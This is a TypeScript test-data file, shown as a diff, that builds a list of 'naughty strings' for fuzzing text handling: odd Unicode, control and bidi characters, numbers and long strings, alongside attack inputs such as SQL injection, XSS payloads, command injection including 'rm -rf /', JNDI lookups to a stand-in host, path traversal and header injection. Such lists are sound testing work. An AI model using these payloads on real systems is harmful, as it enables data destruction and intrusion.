@@ -1,0 +1,183 @@
+/** A text that breaks programs which take texts for something else. */
+export interface NaughtyString {
+  /** What it tries. */
+  kind: string;
+  text: string;
+}
+
+/** What may stand between two letters; some is seen, some is not, some turns what follows. */
+const betweenLetters: Record<string, string[]> = {
+  nul: ["\0"],
+  control: [...range(0x01, 0x1f), ...range(0x7f, 0x9f)],
+  surrogate: ["\ud800", "\udbff", "\udc00", "\udfff", "\udc00a\ud800", "\ud83d"],
+  blank: [...Array.from(" \u00a0\u1680\u2028\u2029\u202f\u205f\u3000"), ...range(0x2000, 0x200a)],
+  lineEnd: ["\r\n", "\r\r\n", "\n\r", "\r\n\r\n", "\n\n\n\n"],
+  bidi: [...Array.from("\u061c\u200e\u200f"), ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)],
+  zeroWidth: Array.from("\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u2063\u3164\ufeff\uffa0"),
+  variation: ["\ufe0e", "\ufe0f", "\u{e0100}", "\u{e0001}", "\u{e0061}", "\u{1f3fb}"],
+  noncharacter: ["\ufdd0", "\ufffe", "\uffff", "\ufffd", "\u{1fffe}", "\u{10ffff}", "\ue000"],
+};
+
+/** Texts as they are. */
+const whole: Record<string, string[]> = {
+  unicode: [
+    ...Array.from("İıſKÅßẞŉǰΐﬁﬃ𝕬🅱Ως"),
+    ...Array.from("ﷺ𒐫꧅ௌ𓂀㋿𠜎￥"),
+    "Zażółć gęślą jaźń",
+    "Pójdźże, kiń tę chmurność",
+    "e\u0301 i \u00e9",
+    "ｆｕｌｌｗｉｄｔｈ",
+    "ðɪs ɪz ˈaɪpiːeɪ",
+    "田中さんにあげて",
+    "사회과학원 어학연구소",
+    "שלום עולם",
+    "مرحبا بالعالم",
+    "नमस्ते दुनिया",
+    "Ṱ̺̺o͞ ̷i̲̬n͝v̶o̷ḱe͜",
+    "ABC \u202eCBA\u202c abc",
+    "\u2067\u202eodwrócony\u2069",
+    "koń\u0327\u0327\u0327",
+  ],
+  combining: [1, 10, 100, 500].flatMap((count) =>
+    ["\u0301", "\u0489", "\u20dd", "\u0e47"].map((mark) => `a${mark.repeat(count)}b`),
+  ),
+  emoji: [
+    "👩‍👩‍👧‍👦",
+    "🏴‍☠️🏳️‍🌈",
+    "👩🏽‍🚒👨🏿‍🦳",
+    "🇵🇱🇺🇳",
+    "🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
+    "1️⃣#️⃣",
+    "❤️‍🔥",
+    "👁‍🗨\u200d",
+    "🇵🇱".repeat(20),
+  ],
+  sql: [
+    "' or '1'='1",
+    "'; drop table users; --",
+    '" or ""="',
+    "1; select pg_sleep(9)",
+    "admin'--",
+    "' union select password_hash from users --",
+    "\\'; delete from posts; --",
+    "%' and 1=0 or title like '%",
+    ..."$1 ? :id _ '' ` -- /* */ ;".split(" "),
+    "$$ begin; end $$",
+    "E'\\x41'",
+    "x'00'",
+  ],
+  html: [
+    "<b>pogrubione</b>",
+    "<h1>Wielkie",
+    "</textarea></title></script>",
+    "<!-- komentarz",
+    "<![CDATA[x]]>",
+    "&lt;b&gt;",
+    "&amp;amp;",
+    "&#60;i&#62;",
+    "&nbsp;&zwnj;&notit;",
+    "<a href='javascript:alert(1)'>tu</a>",
+    "<base href=//zly.example>",
+    "<meta http-equiv=refresh content=0>",
+    "<iframe src=//zly.example></iframe>",
+    "<style>*{display:none}</style>",
+    "<form action=//zly.example><input name=password>",
+    "<math><mi//xlink:href='data:x,<script>'>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+  ],
+  script: [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "\"><script>alert('x')</script>",
+    "'-alert(1)-'",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "\\u003cscript\\u003ealert(1)",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "</script><script>alert(1)",
+    "`-alert(1)-`",
+    "&#x6A;avascript:alert(1)",
+  ],
+  template: [
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{%if 1%}x{%endif%}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${process.env.JWT_SECRET}",
+    "${jndi:ldap://zly.example/a}",
+    "$(id)",
+    "`id`",
+    "; cat /etc/passwd",
+    "| ping zly.example",
+    "&& rm -rf /",
+    "$& $1 $` $'",
+  ],
+  path: [
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "%2e%2e%2fetc%2fpasswd",
+    "....//....//",
+    "C:\\con\\con",
+    "file:///etc/passwd",
+    "//zly.example",
+    "\\\\zly\\udział",
+    "a/b?c=d&e=f#g",
+    ..."%00.png %ff%fe % %zz +%2B . .. ~ con aux.txt".split(" "),
+  ],
+  header: [
+    "a\r\nSet-Cookie: zly=1",
+    "a\r\n\r\n<script>alert(1)</script>",
+    "a\nBcc: zly@zly.example",
+    "a%0d%0aLocation:%20//zly.example",
+    "a\u560d\u560aX: y",
+    '"; filename="zly.html',
+    '--granica\r\nContent-Disposition: form-data; name="isAdmin"\r\n\r\ntrue',
+    "Cześć\r\n.\r\nMAIL FROM:<zly@zly.example>",
+    "=?utf-8?B?emx5?=",
+  ],
+  json: [
+    ..."__proto__ constructor prototype toString hasOwnProperty length".split(" "),
+    ...String.raw`[] {} null undefined true false " \ \n \u0000 \ud800`.split(" "),
+    '{"__proto__":{"isAdmin":true}}',
+    '{"constructor":{"prototype":{"isAdmin":true}}}',
+    '{"$gt":""}',
+    '{"$where":"sleep(9)"}',
+    '","isAdmin":true,"x":"',
+  ],
+  number: [
+    ..."0 -0 1 00 01 -1 1.5 .5 1e3 1e400 -1e400 0x10 0b1 0o7 1_000 1,5 ٣ １ NaN".split(" "),
+    ..."Infinity -Infinity 9007199254740993 99999999999999999999 2147483648 4.9e-324".split(" "),
+  ],
+  format:
+    String.raw`%s%s%s%n %d %x%x %o%j%% {0} {name} %1$s $s @@version %@ \n\t %(m)s :smile:`.split(
+      " ",
+    ),
+  long: ["a", "ż", "語", "😀", "\u202e", "<b>"].flatMap((text) =>
+    [200, 5_000, 100_000].map((length) => text.repeat(length / text.length)),
+  ),
+};
+
+/** The beginnings, middles and ends of texts, and what makes a whole one, by kind. */
+export const naughtyStrings: readonly NaughtyString[] = [
+  ...Object.entries(betweenLetters).flatMap(([kind, parts]) =>
+    parts.flatMap((part) => [
+      { kind, text: `za${part}co` },
+      { kind, text: `${part}wokół słów${part}` },
+    ]),
+  ),
+  ...Object.entries(whole).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text }))),
+];
+
+/** The characters from one code point to another, both among them. */
+function range(first: number, last: number): string[] {
+  return Array.from({ length: last - first + 1 }, (_, index) =>
+    String.fromCodePoint(first + index),
+  );
+}
